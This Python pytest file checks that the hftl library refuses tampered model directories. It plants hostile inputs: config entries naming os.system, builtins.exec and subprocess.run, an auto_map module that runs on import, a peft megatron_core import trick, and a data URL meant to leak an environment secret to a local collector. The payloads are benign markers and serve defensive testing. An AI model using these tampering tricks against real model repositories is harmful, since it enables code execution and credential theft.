"""Issue 13, class 2: a model directory is data. Tampered directories run no code and reach no network.

A tiny real model directory (BERT, CLS pooling, tanh MLP head: also exactly exportable) is tampered with
the ways a hostile uploader would (``_component_`` payloads in ``config.yaml`` and ``hftl_model.json``, a
walk through an allowed package into ``importlib``, ``auto_map`` plus a ``.py`` that writes a marker when
imported, ``${oc.env:SECRET}`` in values, ``trust_remote_code: true`` in the config) and loaded through
every door: ``hftl.load``, ``hftl predict``, ``hftl eval`` (with ``--data`` and from the recorded data) and
``hftl export``, in process. Every socket connection fails the test; the secret never appears in any
output; each door either loads the model safely (ignoring the record) or exits 2 with one ``error:`` line.
"""

from __future__ import annotations

import json
import logging
import shutil
import socket
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
import yaml
from omegaconf import OmegaConf

import hftl
from hftl.cli import main as cli
from hftl.errors import ModelLoadError

SECRET = "hf_tamperedDIRsecret0123456789abcdef"
SECRET_ENV = "HFTL_TEST_MODEL_DIR_SECRET"
LABELS = ["negative", "positive"]


@pytest.fixture(scope="module")
def clean(tmp_path_factory, tiny_models) -> Path:
    """A finished-looking run folder: ``run/model`` (full fine-tune) and the ``test.csv`` it was scored on."""
    from hftl.encoders import TextEncoder
    from hftl.models import Classifier, MLPHead
    from hftl.models.io import save_model

    root = tmp_path_factory.mktemp("clean")
    csv = root / "test.csv"
    csv.write_text("text,label\n" + "".join(f"the movie was {w},{lab}\n" for w, lab in [("good", "positive"), ("bad", "negative")] * 4))  # fmt: skip
    torch.manual_seed(0)
    encoder = TextEncoder(tiny_models["bert"], pooling="cls", max_length=16)
    head = MLPHead(encoder.out_features, 2, hidden_features=32, activation="tanh")
    cfg = OmegaConf.create({
        "recipe": "finetune", "output_dir": str(root / "run"),
        "encoder": {"_component_": "hftl.encoders.TextEncoder", "model": tiny_models["bert"], "pooling": "cls", "max_length": 16},
        "adapter": {"_component_": "hftl.adapters.FullFinetune"},
        "head": {"_component_": "hftl.models.MLPHead", "hidden_features": 32, "activation": "tanh"},
        "data": {"_component_": "hftl.data.ClassificationData", "path": "csv", "data_files": {"test": str(csv)}, "validation_size": 0},
    })  # fmt: skip
    save_model(Classifier(encoder, head, LABELS), root / "run" / "model", adapter_kind="full", config=cfg)
    return root


@pytest.fixture
def guard(monkeypatch, tmp_path):
    """Online mode, the secret in the environment, and every network connection an immediate failure."""
    from huggingface_hub import constants

    attempts: list[tuple] = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setenv(SECRET_ENV, SECRET)
    monkeypatch.setattr(
        constants, "HF_HUB_OFFLINE", False
    )  # offline mode must not be what keeps us off the net
    for name in ("connect", "connect_ex"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    import transformers.dynamic_module_utils as dynamic

    monkeypatch.setattr(
        dynamic, "HF_MODULES_CACHE", str(tmp_path / "hf_modules")
    )  # where remote code is copied
    return attempts


# -- tampering -------------------------------------------------------------------------------------------------
def _edit_yaml(path: Path, edit: Callable[[dict], None]) -> None:
    data = yaml.safe_load(path.read_text())
    edit(data)
    path.write_text(yaml.safe_dump(data))


def _edit_json(path: Path, edit: Callable[[dict], None]) -> None:
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(json.dumps(data))


def _evil_module(model: Path, marker: Path) -> None:
    """``encoder/evil.py``: importing it writes ``marker`` (then defines a working BERT, so trust can load it)."""
    (model / "encoder" / "evil.py").write_text(
        f"import pathlib\npathlib.Path({str(marker)!r}).write_text('imported')\n"
        "from transformers import BertConfig, BertModel\n"
        "class EvilConfig(BertConfig):\n    model_type = 'bert'\n"
        "class EvilModel(BertModel):\n    config_class = EvilConfig\n"
    )


def _auto_map(model: Path, marker: Path) -> None:
    _evil_module(model, marker)
    _edit_json(model / "encoder" / "config.json", lambda c: c.update(auto_map={"AutoConfig": "evil.EvilConfig", "AutoModel": "evil.EvilModel"}))  # fmt: skip


def _config_payloads(model: Path, marker: Path) -> None:
    def edit(cfg: dict) -> None:
        cfg["encoder"] = {"_component_": "os.system", "command": f"touch {marker}"}
        cfg["head"] = {"_component_": "builtins.exec", "source": f"open({str(marker)!r}, 'w')"}
        cfg["data"] = {"_component_": "subprocess.run", "args": ["touch", str(marker)]}

    _edit_yaml(model / "config.yaml", edit)


def _config_secret(model: Path, marker: Path) -> None:
    def edit(cfg: dict) -> None:
        cfg["encoder"]["max_length"] = f"${{oc.env:{SECRET_ENV}}}"
        cfg["data"]["data_files"]["test"] = f"http://127.0.0.1:9/collect?t=${{oc.env:{SECRET_ENV}}}"

    _edit_yaml(model / "config.yaml", edit)


def _config_trusts_itself(model: Path, marker: Path) -> None:
    _auto_map(model, marker)
    _edit_yaml(model / "config.yaml", lambda c: c["encoder"].update(trust_remote_code=True))


def _meta(edit: Callable[[dict], None]) -> Callable[[Path, Path], None]:
    return lambda model, marker: _edit_json(model / "hftl_model.json", edit)


def _format1(edit: Callable[[dict], None]) -> Callable[[Path, Path], None]:
    """hftl 0.1's layout (encoder/head only in config.yaml), with ``edit`` applied to the config."""

    def tamper(model: Path, marker: Path) -> None:
        _edit_json(model / "hftl_model.json", lambda m: [m.pop(k) for k in ("encoder", "head", "base_revision")] and m.update(format=1))  # fmt: skip
        _edit_yaml(model / "config.yaml", edit)

    return tamper


def _set(path: str, value) -> Callable[[dict], None]:
    def edit(data: dict) -> None:
        *parents, last = path.split(".")
        for key in parents:
            data = data[key]
        data[last] = value

    return edit


# (id, tamper, loads: whether the model itself still loads safely, fragment of the refusal otherwise)
VARIANTS: list[tuple[str, Callable[[Path, Path], None], bool, str]] = [
    ("clean", lambda model, marker: None, True, ""),
    ("config-payloads", _config_payloads, True, ""),
    ("config-env-secret", _config_secret, True, ""),
    ("config-trust-remote-code", _config_trusts_itself, False, "auto_map"),
    ("auto-map", _auto_map, False, "--trust-remote-code"),
    ("auto-map-tokenizer", lambda model, marker: (_evil_module(model, marker), _edit_json(
        model / "encoder" / "tokenizer_config.json", lambda t: t.update(auto_map={"AutoTokenizer": ["evil.EvilConfig", None]}))),
     False, "tokenizer_config.json"),
    ("meta-os-system", _meta(_set("encoder.class", "os.system")), False, "'os.system'"),
    ("meta-builtins-exec", _meta(_set("head.class", "builtins.exec")), False, "'builtins.exec'"),
    ("meta-module-walk", _meta(_set("head.class", "hftl.config._instantiate.importlib.import_module")), False, "`head.class`"),
    ("meta-env-secret", _meta(_set("encoder.kwargs.max_length", f"${{oc.env:{SECRET_ENV}}}")), False, "`max_length`"),
    ("meta-trust-remote-code", _meta(_set("encoder.kwargs.trust_remote_code", True)), False, "trust_remote_code"),
    ("meta-nested-component", _meta(_set("head.kwargs", {"dropout": {"_component_": "os.getpid"}})), False, "`dropout`"),
    ("format1-os-system", _format1(_set("encoder._component_", "os.system")), False, "'os.system'"),
    ("format1-env-secret", _format1(_set("encoder.pooling", f"${{oc.env:{SECRET_ENV}}}")), False, "interpolation"),
    ("format1-trust-remote-code", lambda model, marker: (_auto_map(model, marker), _format1(
        _set("encoder.trust_remote_code", True))(model, marker)), False, "auto_map"),
]  # fmt: skip


def _one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    errors = [line for line in lines if line.startswith("error:")]
    assert len(errors) == 1 and "Traceback" not in err, err
    return errors[0]


@pytest.mark.parametrize(("name", "tamper", "loads", "expected"), VARIANTS, ids=[v[0] for v in VARIANTS])
def test_tampered_model_dir_runs_no_code_and_reaches_no_network(clean, tmp_path, guard, capsys, name, tamper, loads, expected):  # fmt: skip
    run = Path(shutil.copytree(clean / "run", tmp_path / "run"))
    model, marker = run / "model", tmp_path / "code_ran"
    tamper(model, marker)
    csv = str(clean / "test.csv")

    if loads:
        predictor = hftl.load(str(run))
        assert predictor(["the movie was good"])[0]["label"] in LABELS
    else:
        with pytest.raises(ModelLoadError) as err:
            hftl.load(str(run))
        assert expected in str(err.value) and "\n" not in str(err.value)
    commands = {
        "predict": ["predict", str(run), "the movie was good"],
        "eval": ["eval", str(run), "--data", csv, "--output", str(tmp_path / "eval.json")],
        "eval-recorded": ["eval", str(run), "--output", str(tmp_path / "eval_recorded.json")],
        "export": ["export", "--merge", str(run), "--out", str(tmp_path / "exported")],
    }
    capsys.readouterr()
    for command, argv in commands.items():
        rc = cli(argv)
        out = capsys.readouterr()
        assert SECRET not in out.out + out.err, command
        # The recorded data of a tampered config is refused too; everything else follows the model.
        ok = loads and not (command == "eval-recorded" and name.startswith("config-"))
        assert rc == (0 if ok else 2), (command, out.err)
        if not ok:
            line = _one_error_line(out.err)
            assert expected in line or command == "eval-recorded", (command, line)
    assert not marker.exists(), "code shipped in the model directory ran"
    assert not guard, f"network access attempted: {guard}"
    assert not (tmp_path / "hf_modules").exists()  # transformers never copied remote code to import it


def test_trust_remote_code_is_the_callers_flag_and_names_the_files(clean, tmp_path, guard, caplog, capsys):
    run = Path(shutil.copytree(clean / "run", tmp_path / "run"))
    marker = tmp_path / "code_ran"
    _auto_map(run / "model", marker)
    assert cli(["predict", str(run), "the movie was good"]) == 2
    assert "--trust-remote-code" in _one_error_line(capsys.readouterr().err) and not marker.exists()

    caplog.set_level(logging.WARNING, logger="hftl")
    assert cli(["predict", str(run), "the movie was good", "--trust-remote-code"]) == 0
    assert marker.exists(), "with the caller's flag transformers imports the shipped module"
    assert "trust_remote_code=True" in caplog.text and "evil.py" in caplog.text
    assert not guard


# -- peft adapter configs ----------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def lora_run(tmp_path_factory, tiny_models) -> Path:
    """A LoRA run folder: ``encoder/adapter_config.json`` is what peft reads on load."""
    from hftl.adapters import Lora
    from hftl.encoders import TextEncoder
    from hftl.models import Classifier, LinearHead
    from hftl.models.io import save_model

    root = tmp_path_factory.mktemp("lora")
    torch.manual_seed(0)
    encoder = Lora(r=2).apply(TextEncoder(tiny_models["bert"], pooling="mean", max_length=16))
    cfg = OmegaConf.create({"recipe": "finetune", "output_dir": str(root / "run")})
    save_model(Classifier(encoder, LinearHead(encoder.out_features, 2), LABELS), root / "run" / "model", adapter_kind="peft", config=cfg)  # fmt: skip
    return root / "run"


def _megatron(marker: Path, module_dir: Path) -> Callable[[dict], None]:
    """An adapter config whose ``megatron_config`` makes peft import the module ``megatron_core`` names. peft
    0.21 only accepts names under ``megatron``; here a ``megatron`` package on ``sys.path`` (as an installed
    one would be) has a submodule that writes ``marker`` when imported."""
    package = module_dir / "megatron"
    package.mkdir(exist_ok=True)
    (package / "__init__.py").write_text("")
    (package / "hftl_evil.py").write_text(
        f"import pathlib\npathlib.Path({str(marker)!r}).write_text('imported')\n"
    )
    return lambda cfg: cfg.update(
        megatron_config={"tensor_model_parallel_size": 1}, megatron_core="megatron.hftl_evil"
    )


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        ("megatron", "`megatron_config`"),
        ("peft-type", "`peft_type`"),
        ("not-json", "adapter_config.json"),
    ],
)
def test_tampered_adapter_config_is_refused(lora_run, tmp_path, guard, capsys, monkeypatch, edit, expected):
    run = Path(shutil.copytree(lora_run, tmp_path / "run"))
    config, marker = run / "model" / "encoder" / "adapter_config.json", tmp_path / "code_ran"
    monkeypatch.syspath_prepend(str(tmp_path))
    assert hftl.load(str(run))(["the movie was good"])[0]["label"] in LABELS  # the untampered adapter loads
    if edit == "megatron":
        _edit_json(config, _megatron(marker, tmp_path))
    elif edit == "peft-type":
        _edit_json(config, lambda cfg: cfg.update(peft_type="XLORA"))
    else:
        config.write_text("{not json")
    with pytest.raises(ModelLoadError, match=expected):
        hftl.load(str(run))
    capsys.readouterr()
    assert cli(["predict", str(run), "the movie was good"]) == 2
    assert expected in _one_error_line(capsys.readouterr().err)
    assert not marker.exists(), "peft imported the module the adapter config names"
    assert not guard


def test_encoder_model_pointing_at_a_hostile_adapter_is_refused(lora_run, tmp_path, guard, monkeypatch):
    """``encoder.model`` may name a peft adapter directory (transformers follows it to its base model); one that
    would make peft import code is refused before transformers reads it."""
    from hftl.encoders import TextEncoder

    adapter, marker = (
        Path(shutil.copytree(lora_run / "model" / "encoder", tmp_path / "adapter")),
        tmp_path / "code_ran",
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    _edit_json(adapter / "adapter_config.json", _megatron(marker, tmp_path))
    with pytest.raises(ModelLoadError, match="megatron_config"):
        TextEncoder(str(adapter), pooling="mean")
    assert not marker.exists() and not guard
